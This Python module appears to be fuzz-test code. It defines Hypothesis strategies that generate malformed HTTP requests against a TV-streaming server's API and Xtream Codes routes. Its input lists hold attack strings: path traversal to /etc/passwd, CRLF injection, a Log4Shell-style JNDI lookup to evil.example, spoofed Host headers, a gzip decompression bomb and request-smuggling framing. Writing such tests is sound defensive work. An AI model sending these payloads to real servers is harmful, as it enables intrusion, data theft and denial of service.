"""Requests that no player would send, and some that one might: for hypothesis to choose from."""

from collections.abc import Callable, Iterator
import gzip
import json
import re
from typing import Any, Final
from urllib.parse import quote
import zlib

from hypothesis import strategies as st

from .guest import CANARY, INJECTED, Secrets

API: Final = "/api/toonami_downlink"
ONE_IN_FOUR: Final = st.sampled_from([False, False, False, True])
_TOKEN: Final = re.compile(r"[!#$%&'*+.^_`|~0-9A-Za-z-]+", re.ASCII)

GARBAGE: Final = st.sampled_from(
    [
        "",
        ".",
        "..",
        "../../../../etc/passwd",
        "..%2f..%2fsecrets.yaml",
        "%2e%2e/%2e%2e/",
        "%252e%252e%252f",
        "..;/..;/",
        "..\\..\\",
        "%00",
        "1%00.ts",
        "%0d%0a" + quote(f"{INJECTED}: 1"),
        "%ff%fe",
        "%c0%ae%c0%ae/",
        "%",
        "%zz",
        "%u002e",
        quote(CANARY),
        CANARY,
        f"%3Cscript%3E{quote(CANARY)}",
        "{feed_token}",
        "{0.__class__}",
        "%s%n%x",
        "${jndi:ldap://evil.example/a}",
        "٣",  # Arabic digits
        "٣".encode().decode("latin-1"),
        "\uff11",  # a digit for Python, none for us
        "-1",
        "1e9",
        "0x1",
        "9" * 400,
        "a" * 4000,
        "/" * 200,
        ";" * 50,
        "1.ts.m3u8",
        "null",
        "\x7f",
        "é",
        "%F0%9F%92%A9",
        "%ED%A0%80",  # half of a character
    ]
)
METHODS: Final = st.one_of(
    st.sampled_from(["GET", "HEAD", "POST", "POST", "POST"]),
    st.sampled_from(
        ["OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "get", "G", "PRI"]
    ),
)
CONTENT_TYPES: Final = st.sampled_from(
    [
        "application/x-www-form-urlencoded",
        "application/x-www-form-urlencoded; charset=utf-16",
        "application/x-www-form-urlencoded; charset=no-such",
        "application/json",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=zq",
        f"multipart/form-data; boundary={'b' * 80}",
        "multipart/mixed; boundary=zq",
        "text/plain",
        "text/xml",
        ";;;",
        "a/b/c",
        "",
    ]
)
HOSTS: Final = st.sampled_from(
    [
        "tv.local:8123",
        "evil.example",
        "evil.example:99999",
        "user:pass@evil.example",
        CANARY,
        f"tv.local\t{CANARY}",
        "[::1",
        "[fd00::1%25eth0]:80",
        "a" * 3000,
        "",
        "127.0.0.1, evil.example",
        "xn--\x80",
        "evil.example/path?x=",
    ]
)
VALUES: Final = st.one_of(
    GARBAGE,
    st.sampled_from([CANARY, "%s" * 20, "{}" * 20, "*", '"' * 100, "," * 500, "\x01", "W/" * 99]),
    st.text(st.characters(codec="latin-1", exclude_characters="\r\n"), max_size=40),
)
HEADERS: Final = st.one_of(
    st.tuples(
        st.sampled_from(
            [
                "Accept",
                "Accept-Encoding",
                "Access-Control-Request-Headers",
                "Access-Control-Request-Method",
                "Authorization",
                "Cache-Control",
                "Content-Encoding",
                "Cookie",
                "Expect",
                "Forwarded",
                "If-Match",
                "If-Modified-Since",
                "If-None-Match",
                "If-Range",
                "Origin",
                "Range",
                "Referer",
                "Upgrade",
                "User-Agent",
                "X-Forwarded-For",
                "X-Forwarded-Host",
                "X-Forwarded-Proto",
                "X-HTTP-Method-Override",
                "X-Original-URL",
            ]
        ),
        VALUES,
    ),
    st.sampled_from(
        [
            ("Accept-Encoding", "gzip;q=1.0.0, *;q=x"),
            ("Accept-Encoding", "gzip," * 900),
            ("Authorization", "Basic " + "A" * 3000),
            ("Authorization", "Bearer null"),
            ("Content-Encoding", "gzip"),
            ("Content-Encoding", "br"),
            ("Content-Encoding", "deflate"),
            ("Expect", "100-continue"),
            ("Expect", CANARY),
            ("If-None-Match", '"' + "a" * 7000),
            ("Origin", f"http://{CANARY}"),
            ("Origin", "null"),
            ("Range", "bytes=" + "0-1," * 900),
            ("Upgrade", "websocket"),
            ("X-Forwarded-For", "127.0.0.1"),
            ("bad name", "x"),
            ("", "x"),
            (" folded", "x"),
            ("X-Long", "x" * 9000),
        ]
    ),
)


def _multipart(value: str) -> bytes:
    return (
        f'--zq\r\nContent-Disposition: form-data; name="username"\r\n{value}\r\n\r\nx\r\n--zq--\r\n'
    ).encode()


BODIES: Final = st.one_of(
    st.binary(max_size=200),
    st.sampled_from(
        [
            b"username=%ff&password=%ed%a0%80&action=" + quote(CANARY).encode(),
            b"&".join([b"a=1"] * 2000),
            b"x" * 200_000,
            b"[" * 60_000,
            b'{"a":' * 10_000,
            json.dumps({"username": 1, "password": [CANARY], "action": None}).encode(),
            b'{"username":"\\ud800","password":"\\u0000"}',
            b'{"username":' + b"9" * 5000 + b"}",
            b"\xff\xfe{\x00}\x00",
            gzip.compress(b"username=a&password=b"),
            gzip.compress(b"a" * 20_000_000),
            gzip.compress(b"username=a")[:-9],
            zlib.compress(b"username=a"),
            _multipart("Content-Transfer-Encoding: no-such"),
            _multipart("Content-Transfer-Encoding: base64"),
            _multipart("Content-Type: text/plain; charset=no-such"),
            _multipart("Content-Encoding: no-such"),
            _multipart("Content-Length: -5"),
            _multipart("X: " + "y" * 40_000),
            b"--zq\r\n\r\n" * 2000,
            gzip.compress(b"\r\n" * 1_000_000 + _multipart("X: y")),
            b"--zq\r\nno colon\r\n\r\n--zq--",
            b"--zq",
        ]
    ),
)


def targets(secrets: Secrets) -> list[tuple[str, bool]]:
    """List every route with what it takes, and whether the secrets are in it."""
    token = secrets.token
    feed = [
        "playlist.m3u",
        "guide.xml",
        "guide.xml.gz",
        *("stream/{}.m3u8", "stream/{}.ts", "stream/1.{}", "stream/1/{}.ts"),
        *("timeshift/1/{}/{}.m3u8", "timeshift/{}/{}/60.ts"),
        *("recordings/{}", "recordings/{}.m3u8", "recordings/1/{}"),
    ]
    watch = ["{}.m3u8", "1/{}.ts", "recordings/{}.m3u8", "recordings/1/{}"]
    tuner = [
        *("discover.json", "lineup.json", "lineup.xml", "lineup.m3u"),
        *("lineup_status.json", "lineup.post", "device.xml", ""),
        *("auto/v{}", "tuner0/v{}", "auto/v99?duration={}"),
    ]
    found = [(f"{API}/{token}/{path}", True) for path in feed]
    found += [(f"{API}/{{}}/{path}", False) for path in feed]
    found += [(f"{API}/hdhr/{token}/{path}", True) for path in tuner]
    found += [(f"{API}/hdhr/{{}}/{path}", False) for path in tuner]
    found += [(f"{API}/hdhr/{token}", True), (f"{API}/hdhr/{{}}", False)]
    found += _xtream(secrets)
    found += [(f"{API}/watch/{{}}/{path}", False) for path in watch]
    found += [
        (f"{API}/health", False),
        (f"{API}/health?{{}}={{}}", False),
        (f"{API}/status", False),
        (f"{API}/house/export", False),
        (f"{API}/house/replace", False),
        ("/tv/{}", False),
        ("/tv/{}/guide", False),
        (f"{API}/logos", False),
        (f"{API}/logos/{{}}", False),
        (f"{API}/{{}}", False),
        ("/toonami_downlink_static/{}/{}", False),
        ("/toonami-downlink", False),
        ("{}", False),
    ]
    return found


def _xtream(secrets: Secrets) -> Iterator[tuple[str, bool]]:
    """List the routes of the Xtream Codes API, each below all its prefixes."""
    login = f"username={secrets.username}&password={secrets.password}"
    api = ["player_api.php", "panel_api.php", "get.php", "xmltv.php", "streaming/timeshift.php"]
    queries = [
        "action={}",
        "action=get_live_streams&category_id={}",
        "action=get_short_epg&stream_id={}&limit={}",
        "action=get_simple_data_table&stream_id={}",
        "stream={}&start={}&duration={}",
        "type={}&output={}",
        "gzip={}",
        "{}={}",
        "&".join(["a={}"] * 60),
    ]
    for prefix in ("", "/", f"{API}/xtream", f"{API}/xtream/"):
        for path in api:
            yield from ((f"{prefix}/{path}?{login}&{query}", True) for query in queries)
            strange = f"{prefix}/{path}?username={{}}&password={{}}"
            yield from ((f"{strange}&{query}", False) for query in queries[:2])
            yield f"{prefix}/{path}", False
        for kind in ("/live", "", "/movie", "/series"):
            own = f"{prefix}{kind}/{secrets.username}"
            yield from ((f"{own}/{secrets.password}/{rest}", True) for rest in ("{}", "1/{}"))
            yield f"{own}/{{}}/1.ts", False
            yield f"{prefix}{kind}/{{}}/{{}}/{{}}", False
        past = f"{prefix}/timeshift/{secrets.username}/{secrets.password}"
        yield f"{past}/{{}}/{{}}/{{}}", True
        yield f"{prefix}/timeshift/{{}}/{{}}/9/9/1", False


@st.composite
def requests(draw: Callable[[Any], Any], secrets: Secrets) -> tuple[bytes, bool]:
    """Make a request as bytes; and whether a secret that opens something is in it.

    Most are good HTTP, else they would all end in the server's parser.
    """
    template, knows = draw(st.sampled_from(targets(secrets)))
    target = template.replace("{}", "\0")
    while "\0" in target:
        target = target.replace("\0", draw(GARBAGE).replace("\0", "%00"), 1)
    if draw(ONE_IN_FOUR):
        at = draw(st.integers(0, len(target)))
        target = target[:at] + draw(GARBAGE) + target[at:]
    if draw(ONE_IN_FOUR):
        target = draw(st.sampled_from(["/", "//evil.example", "http://evil.example"])) + target
    method = draw(METHODS)
    body = draw(BODIES) if method not in {"GET", "HEAD"} and draw(st.booleans()) else None
    headers = draw(st.lists(HEADERS, max_size=4))
    host = draw(HOSTS)
    if draw(ONE_IN_FOUR):
        return _make_nonsense(draw, (method, target, host), headers, body or b""), knows
    target = quote(target, safe="/?&=:%;.~{}$!*'()+,@", encoding="latin-1", errors="replace")
    lines = [f"{method} {target or '/'} HTTP/1.1", f"Host: {_tidy(host)}"]
    lines += [f"{name}: {_tidy(value)}" for name, value in headers if _TOKEN.fullmatch(name)]
    if body is not None:
        lines.append(f"Content-Type: {draw(CONTENT_TYPES)}")
        body = _frame(draw(st.sampled_from(["length", "chunks"])), lines, body)
    return _join(lines, body or b""), knows


def _make_nonsense(
    draw: Callable[[Any], Any],
    start: tuple[str, str, str],
    headers: list[tuple[str, str]],
    body: bytes,
) -> bytes:
    """Make what is hardly HTTP any more."""
    method, target, host = start
    version = draw(st.sampled_from(["HTTP/1.1", "HTTP/1.0", "HTTP/2.0", "HTTP/9.9", "X", ""]))
    lines = [f"{method} {target} {version}"]
    lines += [f"Host: {one}" for one in draw(st.sampled_from([(), (host,), (host, host)]))]
    lines += [f"{name}: {value}" for name, value in headers]
    if body:
        lines.append(f"Content-Type: {draw(CONTENT_TYPES)}")
        body = _frame(draw(st.sampled_from(["length", "bad chunks", "short", "both"])), lines, body)
    return _join(lines, body)


def _tidy(value: str) -> str:
    """Take out of a header's value what no server accepts there."""
    return "".join(char for char in value if char >= " " and char != "\x7f").strip()


def _join(lines: list[str], body: bytes) -> bytes:
    head = "\r\n".join((*lines, "Connection: close", "", ""))
    return head.encode("latin-1", "replace") + body


def _frame(how: str, lines: list[str], body: bytes) -> bytes:
    """Say how long a body is: rightly, in chunks, or not quite."""
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body) if body else b"0\r\n\r\n"
    match how:
        case "length":
            lines.append(f"Content-Length: {len(body)}")
            return body
        case "chunks":
            lines.append("Transfer-Encoding: chunked")
            return chunked
        case "bad chunks":
            lines.append("Transfer-Encoding: chunked")
            return b"5\r\nabc\r\nzz\r\n" + chunked
        case "short":
            lines.append(f"Content-Length: {len(body) // 2}")
            return body
    lines += [f"Content-Length: {len(body)}", "Transfer-Encoding: chunked"]
    return chunked
